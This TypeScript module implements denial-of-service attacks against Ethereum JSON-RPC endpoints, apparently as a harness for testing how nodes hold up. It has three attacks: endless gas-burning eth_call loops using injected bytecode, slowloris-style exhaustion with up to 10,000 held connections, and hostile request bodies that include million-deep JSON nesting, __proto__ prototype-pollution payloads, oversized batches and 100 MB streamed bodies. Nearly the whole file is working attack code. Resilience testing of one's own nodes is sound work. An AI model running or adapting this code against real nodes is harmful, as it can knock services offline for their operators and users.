import { type ClientRequest, request } from 'node:http'
import { connect, type Socket } from 'node:net'

/** What strangers do to a public JSON-RPC port. */
export const ATTACKS = ['loops', 'connections', 'bodies'] as const
export type Attack = (typeof ATTACKS)[number]

/** How often each answer came: a JSON-RPC error text, an HTTP status, `closed`. */
export type Answers = Record<string, number>

export interface RunningAttack {
  /** Ends it and tells what came back. */
  stop(): Promise<Answers>
}

export interface AttackOptions {
  readonly urls: readonly string[]
  /** Endless calls in flight at each node. */
  readonly loops?: number
  /** Connections held open, over all nodes together. */
  readonly connections?: number
}

/** Code that runs until its gas is used up: jumps only; hashing a megabyte; multiplying points of a curve. */
const ENDLESS = ['0x5b5f56', '0x5b62100000600020505f56', '0x60015f5260026020525f196040525b60405f60605f60075afa50600e56']
const VICTIM = '0x00000000000000000000000000000000000badc0'
const BODY_BYTES = 100 * 1024 * 1024
const PIECE = Buffer.alloc(64 * 1024, 0x20)
const DEPTH = 1_000_000
/** Connections that come back in a second. */
const RETURNING_PER_SECOND = 200

const hostile = (params: string) => `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":${params}}`

/** Bodies that are small enough to be read. */
const BODIES: readonly string[] = [
  '['.repeat(DEPTH),
  `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`,
  hostile(`${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`),
  hostile(`${'{"__proto__":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
  '{"__proto__":{"method":"eth_chainId"},"constructor":{"prototype":{"id":1}}}',
  hostile('[{"to":"__proto__"},"latest",{"__proto__":{"balance":"0x1"}}]'),
  '{"jsonrpc":"2.0","id":1,"method":"__proto__"}',
  '{"jsonrpc":"2.0","id":1,"method":"constructor","params":[]}',
  `[${Array.from({ length: 1_001 }, () => '{"jsonrpc":"2.0","id":1,"method":"eth_chainId"}').join(',')}]`,
  `[${Array.from({ length: 1_000 }, () => '{"jsonrpc":"2.0","id":1,"method":"eth_getLogs","params":[{"fromBlock":"0x0"}]}').join(',')}]`,
  `{"jsonrpc":"2.0","id":1,"method":"web3_sha3","params":["0x${'00'.repeat(2_000_000)}"]}`,
  '\u0000\uffff',
]

export function startAttack(attack: Attack, options: AttackOptions): RunningAttack {
  const answers: Answers = {}
  const count = (what: string) => {
    answers[what] = (answers[what] ?? 0) + 1
  }
  const start = { loops: startLoops, connections: startConnections, bodies: startBodies }[attack]
  const stop = start(options, count)
  return {
    async stop() {
      await stop()
      return answers
    },
  }
}

type Count = (what: string) => void

/** One POST; tells what came back. `pieces` sends so many times {@link PIECE} instead of the body. */
function post(url: string, body: string, onStart: (sent: ClientRequest) => void, pieces = 0): Promise<string> {
  return new Promise(resolve => {
    const headers: Record<string, string> = { 'content-type': 'application/json' }
    if (pieces === 0) headers['content-length'] = String(Buffer.byteLength(body))
    const sent = request(url, { method: 'POST', headers, agent: false, timeout: 60_000 }, answer => {
      let text = ''
      answer.on('data', chunk => {
        if (text.length < 500) text += String(chunk)
      })
      const end = () => resolve(answer.statusCode === 200 ? kindOf(text) : `HTTP ${answer.statusCode}`)
      answer.once('end', end)
      answer.once('error', end)
    })
    sent.once('error', () => resolve('closed'))
    sent.once('timeout', () => sent.destroy())
    onStart(sent)
    if (pieces === 0) {
      sent.end(body)
      return
    }
    let left = pieces
    const pump = () => {
      while (left-- > 0) if (!sent.write(PIECE)) return
      sent.end()
    }
    sent.on('drain', pump)
    pump()
  })
}

/** The error's text without what differs from one to the next, or `answered`. */
function kindOf(text: string): string {
  return /"message":"([^"]{1,60})/.exec(text)?.[1] ?? 'answered'
}

function startLoops({ urls, loops = 8 }: AttackOptions, count: Count): () => Promise<void> {
  let isOver = false
  const open = new Set<ClientRequest>()
  const one = async (url: string, code: string) => {
    const overrides = { [VICTIM]: { code } }
    const params = [{ to: VICTIM, gas: '0xffffffffff' }, 'latest', overrides]
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params })
    while (!isOver) {
      let own: ClientRequest | undefined
      count(
        await post(url, body, sent => {
          own = sent
          open.add(sent)
        }),
      )
      if (own !== undefined) open.delete(own)
    }
  }
  for (const url of urls) for (let i = 0; i < loops; i++) void one(url, ENDLESS[i % ENDLESS.length] as string)
  return async () => {
    isOver = true
    for (const sent of open) sent.destroy()
  }
}

function startConnections({ urls, connections = 10_000 }: AttackOptions, count: Count): () => Promise<void> {
  const sockets = new Set<Socket>()
  let isOver = false
  let turn = 0
  const open = () => {
    const { hostname, port } = new URL(urls[turn++ % urls.length] as string)
    const socket = connect(Number(port), hostname)
    sockets.add(socket)
    socket.on('error', () => {})
    socket.on('data', data => count(`HTTP ${String(data).slice(9, 12)}`))
    socket.on('connect', () => {
      count('connected')
      // Half of them begin a request, and go on with a byte now and then.
      if (turn % 2 === 0) {
        const head = `POST / HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 99999\r\n`
        socket.write(turn % 4 === 0 ? head : `${head}\r\n{`)
      }
    })
    socket.on('close', () => {
      sockets.delete(socket)
      if (!isOver) count('closed')
    })
  }
  // All of them within seconds; then those that the node closed come back, as fast as a firewall would let them.
  let opened = 0
  const filling = setInterval(() => {
    const most = opened < connections ? 400 : RETURNING_PER_SECOND / 10
    for (let i = 0; i < most && sockets.size < connections; i++, opened++) open()
  }, 100)
  const dripping = setInterval(() => {
    for (const socket of sockets) if (socket.writable && Math.random() < 0.1) socket.write('x')
  }, 1_000)
  return async () => {
    isOver = true
    clearInterval(filling)
    clearInterval(dripping)
    for (const socket of sockets) socket.destroy()
  }
}

function startBodies({ urls }: AttackOptions, count: Count): () => Promise<void> {
  let isOver = false
  const open = new Set<ClientRequest>()
  const one = async (url: string, first: number) => {
    for (let i = first; !isOver; i++) {
      const position = i % (BODIES.length + 2)
      const body = BODIES[position] ?? ''
      let own: ClientRequest | undefined
      const note = (sent: ClientRequest) => {
        own = sent
        open.add(sent)
      }
      // The last two are 100 MB: announced, and in chunks of which nobody knows the end.
      const isLong = position >= BODIES.length
      count(await post(url, body, note, isLong ? BODY_BYTES / PIECE.length : 0))
      if (own !== undefined) open.delete(own)
    }
  }
  for (const url of urls) for (let i = 0; i < 4; i++) void one(url, i * 4)
  return async () => {
    isOver = true
    for (const sent of open) sent.destroy()
  }
}
